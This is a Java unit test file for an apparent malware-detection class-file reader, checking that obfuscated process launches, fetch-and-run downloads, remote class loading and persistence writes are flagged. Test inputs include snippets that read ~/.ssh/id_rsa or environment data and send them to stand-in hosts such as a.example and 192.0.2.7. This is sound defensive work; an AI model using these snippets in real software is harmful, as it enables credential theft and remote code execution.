package cordon.inspect.jvm;

import static cordon.inspect.fact.Behaviour.*;
import static org.assertj.core.api.Assertions.assertThat;

import cordon.inspect.fact.Behaviour;
import cordon.inspect.fact.Fact;
import cordon.inspect.fact.FileFacts;
import cordon.inspect.fact.Reference;
import cordon.inspect.rules.Rules;
import cordon.testkit.archive.Compiled;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;

class ClassFileReaderTest {
  private static final long SEED = 20_261_128;
  private static final ClassFileReader READER =
      new ClassFileReader(Rules.own(false).build().vocabulary());

  private static FileFacts read(String members) {
    FileFacts read = READER.read("Sample.class", Compiled.sample(members));
    assertThat(read.doubts()).isEmpty();
    return read;
  }

  /** Facts of a method whose body this is. */
  static List<Fact> facts(String body) {
    return read("static void m(String given, boolean either) throws Exception {" + body + "}")
        .facts();
  }

  private static void runs(String command, Set<Behaviour> inputs, String body) {
    assertThat(facts(body))
        .as(body)
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(RUN_PROCESS);
          assertThat(fact.detail()).isEqualTo(command);
          assertThat(fact.inputs()).containsExactlyInAnyOrderElementsOf(inputs);
          assertThat(fact.unit()).isEqualTo("Sample.m");
        });
  }

  @Test
  void commandsAreFoldedHoweverTheyAreSpelt() {
    String exec = "Runtime.getRuntime().exec(%s);";
    for (String spelling :
        List.of(
            "\"echo inert\"",
            "new String[] {\"echo\", \"inert\"}",
            "\"echo\" + \" inert\"",
            "new StringBuilder(\"echo\").append(' ').append(\"inert\").toString()",
            "\"echo\".concat(\" inert\")",
            "String.join(\"ho in\", \"ec\", \"ert\")",
            "\"ECHO INERT\".toLowerCase()",
            "\"xx echo inert\".substring(3)",
            "String.join(\" \", \"echo\", \"inert\")")) {
      runs("echo inert", Set.of(), exec.formatted(spelling));
    }
    for (String packed :
        List.of(
            "new String(Base64.getDecoder().decode(\"ZWNobyBpbmVydA==\"))",
            "new String(Base64.getMimeDecoder().decode(\"ZWNobyBp\\nbmVydA==\"))",
            "new String(HexFormat.of().parseHex(\"6563686f20696e657274\"))",
            "new String(new byte[] {101, 99, 104, 111, 32, 105, 110, 101, 114, 116})",
            "new String(new char[] {'e', 'c', 'h', 'o', ' ', 'i', 'n', 'e', 'r', 't'})",
            "String.valueOf(new char[] {101 ^ 0, 99, 104, 111, 32, 105, 110, 101, 114, 116})",
            "new StringBuilder(\"treni ohce\").reverse().toString()",
            "\"e#cho ine#rt\".replace(\"#\", \"\")")) {
      runs("echo inert", Set.of(DECODE), exec.formatted(packed));
    }
    runs("echo inert", Set.of(), "new ProcessBuilder(\"echo\", \"inert\").start();");
    runs(
        "echo inert",
        Set.of(),
        "new ProcessBuilder(List.of(\"echo\", \"inert\")).inheritIO().start();");
    runs("ls", Set.of(), "String c = either ? \"dir\" : \"ls\"; Runtime.getRuntime().exec(c);");
  }

  @Test
  void whatIsReachedByNameIsJudgedByThatName() {
    runs(
        "echo inert",
        Set.of(INDIRECT),
        "Class<?> c = Class.forName(\"java.lang.\" + \"Runtime\");"
            + "Object r = c.getMethod(\"getRuntime\").invoke(null);"
            + "c.getMethod(\"exec\", String.class).invoke(r, \"echo inert\");");
  }

  @Test
  void whatFlowsInIsKnownAtTheEnd() {
    runs(
        "/tmp/inert",
        Set.of(FETCH, HOST),
        "Files.copy(new URL(\"http://a.example/a\").openStream(), Paths.get(\"/tmp/inert\"));"
            + "Runtime.getRuntime().exec(\"/tmp/inert\");");
    assertThat(
            facts(
                "File f = File.createTempFile(\"a\", \"b\");"
                    + "InputStream in = new BufferedInputStream(new URL(given).openStream());"
                    + "FileOutputStream out = new FileOutputStream(f); in.transferTo(out);"
                    + "Runtime.getRuntime().exec(f.getPath());"))
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(RUN_PROCESS);
          assertThat(fact.inputs()).contains(FETCH);
        });
    assertThat(
            facts(
                "HttpURLConnection c = (HttpURLConnection) new URL(\"http://a.example\").openConnection();"
                    + "OutputStream o = new DataOutputStream(c.getOutputStream());"
                    + "o.write((System.getProperty(\"user.name\") + System.getenv()).getBytes());"))
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(SEND);
          assertThat(fact.inputs()).contains(HOST_INFO, ENVIRONMENT);
        });
    assertThat(
            facts(
                "byte[] key = Files.readAllBytes(Paths.get(System.getProperty(\"user.home\"), \".ssh/id_rsa\"));"
                    + "new URL(\"http://a.example/?q=\" + new String(key)).openStream();"))
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(FETCH);
          assertThat(fact.inputs()).contains(SECRET);
        });
    assertThat(
            facts(
                "new URLClassLoader(new URL[] {new URL(\"http://192.0.2.7/x.jar\")}).loadClass(given);"))
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(RUN_CODE);
          assertThat(fact.inputs()).contains(FETCH);
        });
  }

  @Test
  void flowPassesThroughMethodsOfTheClass() {
    FileFacts read =
        read(
            """
            static String plain(String packed) {
              char[] c = packed.toCharArray();
              for (int i = 0; i < c.length; i++) { c[i] ^= 7; }
              return new String(c);
            }
            static void start(String command) throws Exception { Runtime.getRuntime().exec(command); }
            static void m() throws Exception { start(plain("xyz")); }
            """);
    assertThat(read.facts())
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(RUN_PROCESS);
          assertThat(fact.unit()).isEqualTo("Sample.m");
          assertThat(fact.inputs()).containsExactly(DECODE);
        });
  }

  @Test
  void namingAPlaceIsNotYetUsingIt() {
    String path = "\"/home/a/.ssh/authorized_keys\"";
    assertThat(facts("String s = " + path + ";")).extracting(Fact::behaviour).containsOnly(SECRET);
    assertThat(facts("new URL(\"http://192.0.2.7/a\");"))
        .extracting(Fact::detail)
        .containsExactly("raw-ip");
    String unit = "\"/home/a/.config/systemd/user/x.service\"";
    assertThat(facts("String s = " + unit + ";")).isEmpty();
    assertThat(facts("new FileOutputStream(" + unit + ");"))
        .extracting(Fact::behaviour)
        .containsExactly(WRITE, PERSIST);
  }

  @Test
  void encryptionIsToldFromDecryption() {
    String cipher =
        "Cipher c = Cipher.getInstance(\"AES\"); c.init(%d, new SecretKeySpec(new byte[16], \"AES\"));"
            + "Runtime.getRuntime().exec(new String(c.doFinal(given.getBytes())));";
    assertThat(facts(cipher.formatted(2)))
        .extracting(Fact::behaviour)
        .contains(DECRYPT)
        .doesNotContain(ENCRYPT);
    assertThat(facts(cipher.formatted(1)))
        .extracting(Fact::behaviour)
        .contains(ENCRYPT)
        .doesNotContain(DECRYPT);
    assertThat(facts(cipher.formatted(2)))
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(RUN_PROCESS);
          assertThat(fact.inputs()).contains(DECRYPT);
        });
  }

  @Test
  void initializersRunOnLoadingAndCallsLeadOn() {
    FileFacts read =
        read(
            """
            static { try { Runtime.getRuntime().exec("echo inert"); } catch (IOException e) { } later(); }
            static void later() { new Thread(() -> System.exit(0)).start(); new Other(); }
            static class Other implements Runnable { public void run() { } }
            """);
    assertThat(read.facts()).extracting(Fact::unit).containsExactly("");
    assertThat(read.references())
        .contains(new Reference("", 1, new Reference.Local("Sample.later")));
    assertThat(read.references())
        .extracting(Reference::target)
        .contains(
            new Reference.Local("Sample.lambda$later$0"),
            new Reference.File(List.of("Sample$Other.class"), "Sample$Other.run"));
  }

  @Test
  void ordinaryCodeSaysNothing() {
    assertThat(
            facts(
                "Map<String, Integer> m = new HashMap<>(); m.put(given, 1);"
                    + "for (String k : m.keySet()) { System.out.println(k + m.get(k)); }"
                    + "long a = 1; double b = a * 2.5; int[] c = {1, 2}; c[0] += (int) b;"
                    + "switch (given) { case \"a\": a++; break; default: a--; }"
                    + "System.getProperty(\"line.separator\"); synchronized (m) { m.clear(); }"))
        .isEmpty();
  }

  @Test
  void damagedClassesAreDoubtedNotFatal() {
    byte[] whole =
        Compiled.sample(
            "static void m(long w, String s) throws Exception { Runtime.getRuntime().exec(\"a\" + s + w);"
                + " Runnable r = () -> { }; r.run(); double[] d = {1.5}; d[0]++; }");
    Random random = new Random(SEED);
    int doubted = 0;
    for (int i = 0; i < 5_000; i++) {
      byte[] content = Arrays.copyOf(whole, 1 + random.nextInt(whole.length));
      content = random.nextBoolean() ? whole.clone() : content;
      for (int edits = random.nextInt(4); edits >= 0; edits--) {
        content[random.nextInt(content.length)] = (byte) random.nextInt();
      }
      FileFacts read = READER.read("Sample.class", content);
      doubted += read.complete() ? 0 : 1;
    }
    assertThat(doubted).as("seed %d", SEED).isGreaterThan(1_000);
    assertThat(READER.read("a.class", new byte[0]).complete()).isFalse();
  }
}
